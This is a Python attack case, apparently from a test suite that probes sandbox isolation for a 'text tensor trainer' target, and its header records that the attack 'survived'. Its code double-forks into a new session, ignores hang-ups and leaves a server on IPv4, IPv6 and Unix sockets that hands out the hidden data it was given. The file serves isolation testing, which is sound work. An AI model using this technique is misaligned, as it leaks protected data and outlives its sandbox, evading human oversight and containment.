# attack: leaves a server behind that offers the hidden row on a port and on a path, after the check is over
# group: f
# targets: text tensor trainer
# ends: wrong error timeout
# control: survived

import contextlib
import os
import signal
import socket
import time

SECONDS = 20


def _open():
    """Return a server on every kind of address that is open to us."""
    servers = []
    outside = OUTSIDE  # noqa: F821 - the runner defines it
    for family, address in (
        (socket.AF_INET, ("0.0.0.0", 0)),
        (socket.AF_INET6, ("::", 0)),
        (socket.AF_UNIX, "\0mark-of-f43"),
        (socket.AF_UNIX, os.path.join(outside, "mark-of-f43.sock")),
    ):
        with contextlib.suppress(OSError):
            server = socket.socket(family, socket.SOCK_STREAM)
            server.bind(address)
            server.listen()
            server.settimeout(0.2)
            servers.append(server)
    return servers


def _serve(data):
    """Answer whoever connects, until the time is over."""
    servers = _open()
    over = time.monotonic() + SECONDS
    while time.monotonic() < over:
        time.sleep(0.05)  # without any server it stays too: to survive is half of the aim
        for server in servers:
            with contextlib.suppress(OSError):
                client, _ = server.accept()
                client.sendall(data)
                client.close()


def _leave_behind(data):
    """Start the server in a process of another session, which holds nothing of ours open and heeds no hang-up."""
    if os.fork():
        return
    try:
        os.setsid()
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        if os.fork() == 0:
            os.closerange(0, 1024)
            _serve(data)
    finally:
        os._exit(0)


def attack(*args, **kwargs):
    with contextlib.suppress(OSError):
        _leave_behind(repr(args)[:1000].encode())
    return {"messages": [], "text": ""}
